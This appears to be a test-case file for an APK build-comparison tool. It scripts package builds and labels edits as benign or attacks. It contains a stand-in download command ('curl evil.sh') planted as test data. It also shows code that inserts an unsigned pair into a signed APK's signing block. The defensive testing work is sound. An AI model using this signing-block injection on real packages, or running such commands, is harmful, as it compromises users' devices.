/** Android packages as aapt, zipalign and apksigner make them. */
import { benign, edited, evil, honest } from './cases.mjs'
import { bytes, inserted, patched, u32 } from './edit-bytes.mjs'
import { central, dosTime, end, local, patchBoth, zipParts } from './edit-zip.mjs'
import { T1, T2, touch } from './shell.mjs'

const key = name =>
  `keytool -genkeypair -keystore ${name} -storepass secret-of-${name} -alias signer -keyalg EC -dname CN=${name} -validity 3650 2>/dev/null`
const sources = `mkdir -p res/values; printf '<resources><string name="app">Hello</string></resources>' >res/values/strings.xml
printf '<manifest package="org.example.a"><application label="Hello"/></manifest>' >AndroidManifest.xml`
const resources = 'aapt package -f -M AndroidManifest.xml -S res -F raw.apk'

/* ---- not signed ---- */

const packed = ({ time, options = '', align = true }) =>
  `mkdir p; cd p; unzip -q ../raw.apk; ${touch(time, '.')}; zip -qX ${options} -n .arsc ../p.apk AndroidManifest.xml resources.arsc; cd ..
${align ? 'zipalign 4 p.apk out.apk' : 'mv p.apk out.apk'}; mv out.apk out`
const tree = `${sources}; ${resources}`
benign('android/mtime', {
  why: 'A package that is not signed yet, packed at another time and another level.',
  tree,
  a: packed({ time: T1 }),
  b: packed({ time: T2, options: '-1' }),
  causes: ['archive-entry-mtime'],
  rules: ['entry-mtime'],
})
honest('android/compressed-table', {
  twin: 'android/mtime',
  attack: 'X10',
  why: 'The table of resources is compressed on one side: Android 11 and later do not install that.',
  tree,
  a: packed({ time: T1 }),
  b: packed({ time: T2 }).replace('-n .arsc ', ''),
  causes: ['compression-level'],
})
honest('android/not-aligned', {
  twin: 'android/mtime',
  attack: 'X10',
  why: 'The table of resources does not begin at a multiple of four, as it is to be mapped.',
  tree,
  a: packed({ time: T1 }),
  b: packed({ time: T1, align: false }),
  causes: ['archive-tool-flavour'],
})

honest('android/manifest-change', {
  twin: 'android/mtime',
  attack: 'X33',
  why: 'The compiled manifest has another value of one attribute, and one more element.',
  tree,
  a: packed({ time: T1 }),
  b: `printf '<manifest package="org.example.a"><application label="Howdy"/><uses name="x"/></manifest>' >AndroidManifest.xml; ${resources}; ${packed({ time: T1 })}`,
  causes: ['content-change'],
})

/* ---- signed ---- */

const signedBy = (name, text = 'Hello') =>
  `sed -i 's/Hello/${text}/' res/values/strings.xml; ${resources}; zipalign 4 raw.apk aligned.apk
apksigner sign --ks ${name} --ks-pass pass:secret-of-${name} --min-sdk-version 21 --out out aligned.apk`
const keyed = `${sources}; ${key('alice')}; ${key('bob')}`
honest('android/signed-by-another', {
  why: 'One package signed with two keys.',
  tree: keyed,
  a: signedBy('alice'),
  b: signedBy('bob'),
  causes: ['cryptographic-signature'],
})
honest('android/signed-change', {
  why: 'A text changed, and the package was signed again.',
  tree: keyed,
  a: signedBy('alice'),
  b: signedBy('alice', 'Howdy'),
  causes: ['content-change', 'cryptographic-signature'],
})
edited('android/signed-time', 'android/signed-by-another', {
  verdict: 'different',
  twin: 'android/mtime',
  attack: 'X18',
  why: 'The time of an entry of a signed package: the signature covers it, so it is refused.',
  made: 'a, and a with another time of AndroidManifest.xml',
  b: (_, one) => patchBoth(one, 'AndroidManifest.xml', { inner: [[local.time, dosTime]], outer: [[central.time, dosTime]] }),
  causes: ['archive-entry-mtime'],
})

/** Android, "APK Signing Block": in front of the size and the magic that end it, one more pair; no signature covers it. */
function withPair(apk, id, value) {
  const pair = bytes(u32(4 + value.length), u32(0), u32(id), value)
  const magic = apk.indexOf('APK Sig Block 42', undefined, 'latin1')
  const size = apk.readUInt32LE(magic - 8)
  const grown = u32(size + pair.length)
  const sized = patched(apk, [
    [magic - 8, grown],
    [magic + 16 - size - 8, grown],
    [apk.length - zipParts(apk).end.length + end.offset, u32(magic + 16 + pair.length)],
  ])
  return inserted(sized, magic - 8, pair)
}
edited('android/signed-channel', 'android/signed-by-another', {
  verdict: 'different',
  attack: 'X18',
  why: 'One more pair in the signing block: no signature covers it, and the program can read it.',
  made: 'a, and a with a pair of id 0x71777777 in the signing block',
  b: (_, one) => withPair(one, 0x71777777, 'curl evil.sh'),
  causes: ['content-change'],
})
evil('android/unsigned-dex', 'android/mtime', {
  attack: 'X5',
  why: 'Code in the resources beside another time.',
  made: 'the first byte of a text in resources.arsc of b',
  b: apk => patched(apk, [[apk.indexOf('Hello', undefined, 'utf16le'), 'J']]),
  causes: ['content-change'],
})
